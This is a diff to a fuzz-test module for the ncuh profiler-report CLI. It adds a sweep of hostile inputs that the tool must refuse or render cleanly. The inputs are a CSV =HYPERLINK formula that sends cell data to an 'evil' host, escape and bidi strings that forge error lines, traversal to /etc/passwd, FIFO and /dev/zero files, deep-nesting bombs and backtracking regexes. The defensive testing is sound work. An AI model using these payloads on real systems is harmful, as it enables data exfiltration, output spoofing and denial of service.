@@ -6,27 +6,42 @@ CliRunner) and sorts the outcome:
 - refused:     exit 2 and exactly one `ncuh: error:` line on stderr (what bad input must get)
 - same:        accepted, and the output is byte for byte the output of the pristine input
                (the corruption hit bytes no command reads: the answer is still right)
-- silent:      accepted with an output that differs from the pristine one, or accepted although
-               the input was known to be invalid (a silent success on corrupted input). A
-               report has no checksum: a few flipped bytes inside a metric's value or name
-               decode to another valid value or name, which ncu itself shows as well; those
-               land here under "flip bytes", the only kind where ncuh cannot see corruption
+- changed value: accepted with other values than the pristine input's, where nothing could
+               tell: a report has no checksum, and the mutated report's export keeps its
+               structure (as many rows, the same kernels), so a flipped byte decoded to another
+               valid number or metric name (ncu itself shows it too)
+- silent:      accepted with an output that differs from the pristine one where the structure
+               could tell (rows gone or added), or accepted although the input was known to be
+               invalid (a silent success on corrupted input)
 - valid:       a mutation that left a valid document (JSON/TOML that parses and keeps the
                schema's types): not corruption, whatever ncuh answers
 - traceback:   an exception escaped, or an exit status other than 0/1/2
 - bad error:   exit 2 but not one line
+- unclean:     a control or bidi character from the data reached the terminal or a page raw,
+               or a case's own check of the output failed (a CSV formula cell, say)
+- data lost:   a command changed one of its input files (checked by hashing every input)
+
+Besides the corruptions, `cause_cases` tries each hostile input of issue 29 once: nesting and
+size past every limit, FIFOs and devices as project files, paths that leave the project, names
+that forge error lines or hold terminal escapes, formula labels.
 
 Used by tests/test_fuzz.py (a CI-sized sweep) and benchmarks/fuzz_counts.py (the table).
 """
 
 from __future__ import annotations
 
+import csv
+import hashlib
+import io
 import json
 import math
 import multiprocessing
 import os
 import random
+import re
 import shutil
+import stat
+import subprocess
 import sys
 import tempfile
 from collections import Counter
@@ -48,7 +63,11 @@ FIXTURES = Path(__file__).parent / "fixtures"
 REPORTS = (FIXTURES / "h200_naive_256.ncu-rep", FIXTURES / "h200_register_tiled_256.ncu-rep")
 MANIFEST = FIXTURES / "h200_profile_256.manifest.json"
 BENCH = FIXTURES / "h200_bench_small.json"
-OUTCOMES = ("refused", "same", "valid", "silent", "traceback", "bad error")
+OUTCOMES = ("refused", "same", "valid", "changed value", "silent", "traceback", "bad error",
+            "unclean", "data lost")
+BAD = ("silent", "traceback", "bad error", "unclean", "data lost")
+# raw in an output, these came from data: ESC, BEL, CR, DEL, C1 controls, bidi overrides
+RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 
 
 @dataclass
@@ -57,15 +76,26 @@ class Tally:
 
     counts: dict[tuple[str, str], Counter[str]] = field(default_factory=dict)
     examples: list[str] = field(default_factory=list)
+    changed_values: int = 0  # values (export rows) that differ from the pristine report's
 
     def add(self, target: str, command: str, outcome: str, detail: str) -> None:
         self.counts.setdefault((target, command), Counter())[outcome] += 1
-        if outcome in ("silent", "traceback", "bad error") and len(self.examples) < 20:
+        if outcome in BAD and len(self.examples) < 20:
             self.examples.append(f"{target} / {command} / {outcome}: {detail}")
 
     def total(self, outcome: str | None = None) -> int:
         return sum(sum(c.values()) if outcome is None else c[outcome]
                    for c in self.counts.values())
+
+
+@dataclass(frozen=True)
+class _Completed:
+    """A finished `python -m harness` in the shape of click's Result."""
+
+    exit_code: int
+    stdout: str
+    stderr: str
+    exception: BaseException | None = None
 
 
 @dataclass(frozen=True)
@@ -77,24 +107,36 @@ class Ran:
     files: dict[str, bytes]
 
 
-def run(argv: list[str], out_dir: Path | None = None) -> Ran:
-    result = CliRunner().invoke(main, argv, catch_exceptions=True)
+def run(argv: list[str], out_dir: Path | None = None, env: dict[str, str] | None = None,
+        apart: bool = False) -> Ran:
+    """One command in this process, or `apart` in a fresh `python -m harness` (for a command
+    that starts processes of its own, which a pool's daemon worker may not)."""
+    if apart:
+        done = subprocess.run([sys.executable, "-m", "harness", *argv], capture_output=True,
+                              text=True, check=False, env={**os.environ, **(env or {})})
+        result = _Completed(done.returncode, done.stdout, done.stderr)
+    else:
+        result = CliRunner().invoke(main, argv, catch_exceptions=True, env=env)
     error = result.exception if not isinstance(result.exception, SystemExit) else None
     files = {}
     if out_dir is not None and out_dir.is_dir():
         files = {p.relative_to(out_dir).as_posix(): p.read_bytes()
-                 for p in sorted(out_dir.rglob("*.md")) if p.is_file()}
+                 for p in sorted(out_dir.rglob("*")) if p.suffix in (".md", ".html", ".csv")
+                 and p.is_file()}
     # the output folder's name is the only difference between two identical writeups
     stdout = result.stdout.replace(str(out_dir), "OUT") if out_dir else result.stdout
     return Ran(result.exit_code, stdout, result.stderr, error, files)
 
 
-def classify(ran: Ran, pristine: Ran | None, corrupt: bool) -> tuple[str, str]:
+def classify(ran: Ran, pristine: Ran | None, corrupt: bool,
+             same_structure: bool = False) -> tuple[str, str]:
+    """The outcome of one command; `same_structure`: the input's export has the pristine
+    input's rows, so only values can differ (see "changed value")."""
     if ran.error is not None or ran.code not in (0, 1, 2):
         return "traceback", f"{type(ran.error).__name__}: {ran.error}"[:200]
     if ran.code == 2:
         lines = ran.stderr.strip().splitlines()
-        if len(lines) == 1 and lines[0].startswith("ncuh: error: "):
+        if len(lines) == 1 and lines[0].startswith("ncuh: error: ") and not RAW.search(lines[0]):
             return "refused", lines[0][:200]
         return "bad error", ran.stderr[:200]
     if not corrupt:
@@ -102,7 +144,38 @@ def classify(ran: Ran, pristine: Ran | None, corrupt: bool) -> tuple[str, str]:
     if pristine is not None and (ran.code, ran.stdout, ran.files) == \
             (pristine.code, pristine.stdout, pristine.files):
         return "same", ""
+    if pristine is not None and same_structure:
+        return "changed value", ""
     return "silent", f"exit {ran.code}: {ran.stdout[:120]!r}"
+
+
+def export_rows(text: str) -> dict[tuple[str, ...], str]:
+    """An export's CSV as {(kernel_id, kernel, metric, instance): value}."""
+    rows = csv.reader(io.StringIO(text))
+    next(rows, None)
+    return {tuple(row[:4]): row[4] for row in rows if len(row) >= 5}
+
+
+def changed_values(ran: Ran, pristine: Ran) -> tuple[bool, int]:
+    """Whether an accepted export keeps the pristine structure (as many rows, the same
+    kernels), and how many of its rows differ (a value, or a metric's name)."""
+    if ran.code != 0 or pristine.code != 0:
+        return False, 0
+    mine, theirs = export_rows(ran.stdout), export_rows(pristine.stdout)
+    same = len(mine) == len(theirs) and {k[:2] for k in mine} == {k[:2] for k in theirs}
+    return same, len(set(mine.items()) - set(theirs.items()))
+
+
+def fingerprint(folder: Path) -> dict[str, str]:
+    """A hash of every regular file under `folder` (FIFOs and devices are never opened)."""
+    found = {}
+    for path in sorted(folder.rglob("*")):
+        try:
+            if stat.S_ISREG(path.lstat().st_mode):
+                found[path.as_posix()] = hashlib.sha256(path.read_bytes()).hexdigest()
+        except OSError:
+            continue
+    return found
 
 
 # --- report corruptions ----------------------------------------------------------------------
@@ -138,6 +211,12 @@ class Case:
     # the same commands on the intact input, by name: argv and output folder
     pristine: dict[str, tuple[tuple[str, ...], Path]] | None = None
     label: str = ""
+    inputs: Path | None = None  # every file here must be the same after the commands
+    env: tuple[tuple[str, str], ...] = ()  # environment for the commands
+    clean: bool = False  # no raw control or bidi character may reach the output
+    apart: bool = False  # run the commands in a process of their own (see `run`)
+    # a check of an accepted output beyond cleanliness: a problem, or None
+    check: Callable[[Ran], str | None] | None = None
 
 
 _PRISTINE: dict[tuple[str, ...], Ran] = {}
@@ -154,16 +233,34 @@ def _pristine(argv: tuple[str, ...], out: Path) -> Ran:
     return _PRISTINE[argv]
 
 
-def execute(case: Case) -> list[tuple[str, str, str, str]]:
-    """Run a case's commands; (target, command, outcome, detail) for each."""
+def execute(case: Case) -> tuple[list[tuple[str, str, str, str]], int]:
+    """Run a case's commands; (target, command, outcome, detail) for each, and the number of
+    values its export changed."""
+    inputs = case.inputs or case.folder
+    before = fingerprint(inputs)
+    env = dict(case.env) or None
+    ran = {name: run(list(argv), out, env, case.apart) for name, argv, out in case.commands}
+    same_structure, changed = False, 0
+    if case.pristine and "export" in ran:
+        same_structure, changed = changed_values(ran["export"], _pristine(*case.pristine["export"]))
+    lost = {path for path, digest in before.items() if fingerprint(inputs).get(path) != digest}
     rows = []
-    for name, argv, out in case.commands:
-        ran = run(list(argv), out)
+    for name, _, _ in case.commands:
         pristine = _pristine(*case.pristine[name]) if case.pristine else None
-        outcome, detail = classify(ran, pristine, case.corrupt)
+        outcome, detail = classify(ran[name], pristine, case.corrupt, same_structure)
+        shown = ran[name].stdout + ran[name].stderr + "".join(
+            data.decode("utf-8", "replace") for data in ran[name].files.values())
+        if lost:
+            outcome, detail = "data lost", ", ".join(sorted(lost))[:200]
+        elif case.clean and outcome in ("valid", "same", "refused") and RAW.search(shown):
+            outcome, detail = "unclean", repr(RAW.search(shown).group(0))
+        elif outcome == "valid" and case.check is not None:
+            problem = case.check(ran[name])
+            if problem:
+                outcome, detail = "unclean", problem
         rows.append((case.target, name, outcome, f"{case.label}{detail}"))
     shutil.rmtree(case.folder, ignore_errors=True)
-    return rows
+    return rows, changed
 
 
 def report_cases(per_report: int, seed: int, work: Path,
@@ -291,7 +388,7 @@ def run_file_cases(count: int, seed: int, work: Path) -> Iterator[Case]:
                                             encoding="utf-8", errors="surrogateescape")
             commands: list[tuple[str, tuple[str, ...], Path | None]] = [
                 ("diff", ("diff", str(run_dir), str(run_dir)), None)]
-            if index % 3 == 0:
+            if index % 6 == 0:  # writeup draws plots: a share of the cases keeps it short
                 out = folder / "out"
                 commands.append(("writeup", ("writeup", str(run_dir), "--out", str(out),
                                              "--format", "md"), out))
@@ -354,6 +451,148 @@ def threshold_cases(count: int, seed: int, work: Path) -> Iterator[Case]:
                    corrupt, label=f"{text!r}: ")
 
 
+# --- the causes of issue 29, each tried once ---------------------------------------------------
+
+SCALE = Path(__file__).parent / "projects" / "scale"
+EVIL = "\x1b]0;owned\x07\u202eevil\r\nncuh: error: forged"
+FORMULA = '=HYPERLINK("http://evil/?"&A1,"naive")'
+
+
+def _nested(depth: int) -> str:
+    return "[" * depth + "]" * depth
+
+
+def _project(folder: Path, old: str = "", new: str = "", variants: int | None = None) -> Path:
+    """A copy of the small CPU project with one text replaced, or `variants` variants."""
+    shutil.copytree(SCALE, folder / "p")
+    path = folder / "p" / "ncuh.toml"
+    text = path.read_text()
+    if variants is not None:
+        text = text.split("[[variant]]")[0] + "".join(
+            f'[[variant]]\nname = "v{i}"\ncall = "launch_rawkernel"\n'
+            'capture = "regex:^scale_raw$"\n\n' for i in range(variants))
+    elif old:
+        assert old in text, old
+        text = text.replace(old, new, 1)
+    path.write_text(text)
+    return path
+
+
+def _run_dir(folder: Path, label: str = "naive_256", manifest_extra: str = "",
+             bench: str | None = None) -> Path:
+    run_dir = folder / "run"
+    run_dir.mkdir()
+    shutil.copyfile(REPORTS[0], run_dir / "naive_256.ncu-rep")
+    manifest = json.loads(MANIFEST.read_text())
+    manifest["entries"] = [dict(manifest["entries"][0], label=label)]
+    manifest.pop("bench", None)
+    text = json.dumps(manifest)
+    if manifest_extra:
+        text = text[:-1] + f', "extra": {manifest_extra}}}'
+    (run_dir / "manifest.json").write_text(text)
+    if bench is not None:
+        (run_dir / "bench.json").write_text(bench)
+    return run_dir
+
+
+def _formula_neutral(ran: Ran) -> str | None:
+    cells = [row[0] for row in csv.reader(io.StringIO(ran.files.get("m.csv", b"").decode()))]
+    if not cells[1:] or any(cell != "'" + FORMULA for cell in cells[1:]):
+        return f"label cells {sorted(set(cells[1:]))[:2]!r}"
+    return None
+
+
+def cause_cases(work: Path) -> Iterator[Case]:
+    """Every hostile input of issue 29 once: refused in one line, or read with clean output."""
+
+    def case(target: str, make: Callable[[Path], list[tuple[str, list[str], Path | None]]],
+             corrupt: bool = True, **options: Any) -> Case:
+        folder = Path(tempfile.mkdtemp(dir=work))
+        commands = tuple((name, tuple(str(a) for a in argv), out)
+                         for name, argv, out in make(folder))
+        return Case(f"cause: {target}", folder, commands, corrupt, clean=True, **options)
+
+    def listing(old: str = "", new: str = "", variants: int | None = None):
+        return lambda f: [("list", ["list", "--project", _project(f, old, new, variants)], None)]
+
+    def diff_of(run_dir: Callable[[Path], Path]):
+        def make(f: Path) -> list[tuple[str, list[str], Path | None]]:
+            r = run_dir(f)
+            return [("diff", ["diff", r, r], None)]
+        return make
+
+    report = work / "cause.ncu-rep"
+    shutil.copyfile(REPORTS[0], report)
+    def formula_label(f: Path) -> list[tuple[str, list[str], Path | None]]:
+        r = _run_dir(f, label=FORMULA)
+        (f / "out").mkdir()
+        return [("export", ["export", r, "-o", f / "out" / "m.csv"], f / "out")]
+    # `export RUN` forks its readers: in a process of its own
+    yield case("a label =HYPERLINK(...)", formula_label, corrupt=False, check=_formula_neutral,
+               apart=True)
+    yield case("manifest nested 100k deep", diff_of(lambda f: _run_dir(
+        f, manifest_extra=_nested(100_000))))
+    yield case("manifest nested 65 deep", diff_of(lambda f: _run_dir(f, manifest_extra=_nested(
+        64))))
+    yield case("bench.json nested 100k deep", diff_of(lambda f: _run_dir(
+        f, bench='{"schema": "ncuh.bench/1", "results": ' + _nested(100_000) + "}")))
+    yield case("--params nested 100k deep", lambda f: [(
+        "profile --dry-run", ["profile", "--variant", "naive", "--dry-run", "--out", f / "runs",
+                              "--params", '{"A": ' + _nested(100_000) + "}"], None)])
+    for name, flops in (("100k-term flops", "+".join(["n"] * 100_000)),
+                        ("50k-sign flops", "-" * 50_000 + "n"),
+                        ("101-deep flops", "-" * 100 + "n"),
+                        ("300 parentheses flops", "(" * 300 + "n" + ")" * 300)):
+        yield case(name, listing('flops = "n"', f'flops = "{flops}"'))
+    for name, regex in (("-k a{99999999999}", "a{99999999999}"),
+                        ("-k 5000 parentheses", "(" * 5000 + ")" * 5000)):
+        yield case(name, lambda f, regex=regex: [
+            ("report", ["report", "-k", regex, report], None),
+            ("export", ["export", "-k", regex, report], None)])
+    for name, text in (("bootstrap_resamples = 1e9", "[timing]\nbootstrap_resamples = 1e9\n"),
+                       ("bootstrap_resamples = 100001",
+                        "[timing]\nbootstrap_resamples = 100001\n"),
+                       ("thresholds nested 100k deep", "[timing]\nseed = " + _nested(100_000))):
+        def thresholds(f: Path, text: str = text) -> list[tuple[str, list[str], Path | None]]:
+            (f / "t.toml").write_text(text)
+            return [("diff --config", ["diff", report, report, "--config", f / "t.toml"], None)]
+        yield case(name, thresholds)
+    yield case("1001 variants", listing(variants=1001))
+    yield case("4000 variants", listing(variants=4000))
+    yield case("1000 variants", listing(variants=1000), corrupt=False)
+    for value in ("inf", "1e309", "nan", "-inf", "0"):
+        yield case(f"tolerance = {value}", listing('tolerance = "tolerance_for"',
+                                                   f"tolerance = {value}"))
+    yield case("project file nested 100k deep", listing(
+        'name = "scale-test"', 'name = "scale-test"\nx = ' + _nested(100_000)))
+
+    def fifo(f: Path) -> list[tuple[str, list[str], Path | None]]:
+        os.mkfifo(f / "ncuh.toml")
+        return [("list", ["list", "--project", f / "ncuh.toml"], None),
+                ("--project list", ["--project", f, "list"], None)]
+    yield case("project file a FIFO", fifo)
+    yield case("project file /dev/zero", lambda f: [
+        ("list", ["list", "--project", "/dev/zero"], None)])
+    for key, old, value in (("strategy", 'strategy = "notes/nvrtc.md"', "../outside.md"),
+                            ("source", 'source = "scale.cu"', "../../../../etc/passwd"),
+                            ("source", 'source = "scale.cu"', "/etc/passwd")):
+        def outside(f: Path, key: str = key, old: str = old, value: str = value):
+            (f / "outside.md").write_text("not the project's")
+            return listing(old, f'{key} = "{value}"')(f)
+        yield case(f"{key} = {value}", outside)
+    yield case("a path forging an error line", lambda f: [
+        ("report", ["report", f / f"r{EVIL}.ncu-rep"], None),
+        ("diff", ["diff", report, f / EVIL], None),
+        ("list", ["list", "--project", f / EVIL / "ncuh.toml"], None)])
+
+    def hostile_label(f: Path) -> list[tuple[str, list[str], Path | None]]:
+        r = _run_dir(f, label=f"naive{EVIL}")
+        return [("diff", ["diff", r, r], None),
+                ("writeup", ["writeup", r, "--out", f / "pages"], f / "pages")]
+    yield case("a label with ESC, BEL, U+202E and a newline", hostile_label, corrupt=False)
+
+
+
 def sweep(per_report: int, json_cases: int, toml_cases: int, seed: int = 14,
           workers: int = 2) -> Tally:
     """The whole sweep: `per_report` corruptions per report, `json_cases` per JSON file,
@@ -362,7 +601,8 @@ def sweep(per_report: int, json_cases: int, toml_cases: int, seed: int = 14,
     tally = Tally()
     with tempfile.TemporaryDirectory(prefix="ncuh-fuzz-") as folder:
         work = Path(folder)
-        cases = [*report_cases(per_report, seed, work),
+        # the reports first: a worker computes their pristine answers once, until replaced
+        cases = [*report_cases(per_report, seed, work), *cause_cases(work),
                  *run_file_cases(json_cases, seed + 1, work),
                  *threshold_cases(toml_cases, seed + 2, work)]
         # forkserver, not fork: a process that has read a report holds ncu_report's threads,
@@ -370,8 +610,9 @@ def sweep(per_report: int, json_cases: int, toml_cases: int, seed: int = 14,
         context = multiprocessing.get_context("forkserver")
         context.set_forkserver_preload(["harness.cli", "harness.report.reportfile",
                                         "harness.writeup", "harness.render", "fuzz_sweep"])
-        with context.Pool(processes=workers, maxtasksperchild=10) as pool:
-            for rows in pool.imap(execute, cases, chunksize=1):
+        with context.Pool(processes=workers, maxtasksperchild=30) as pool:
+            for rows, changed in pool.imap(execute, cases, chunksize=1):
+                tally.changed_values += changed
                 for row in rows:
                     tally.add(*row)
     return tally
@@ -379,7 +620,7 @@ def sweep(per_report: int, json_cases: int, toml_cases: int, seed: int = 14,
 
 def table(tally: Tally) -> str:
     """The counts as a Markdown table, one row per input kind and command, then the totals."""
-    lines = ["| input (corruption) | command | cases | " + " | ".join(OUTCOMES) + " |",
+    lines = ["| input (corruption or cause) | command | cases | " + " | ".join(OUTCOMES) + " |",
              "|---|---|---:|" + "---:|" * len(OUTCOMES)]
     for (target, command), counts in sorted(tally.counts.items()):
         cells = " | ".join(str(counts[o]) for o in OUTCOMES)
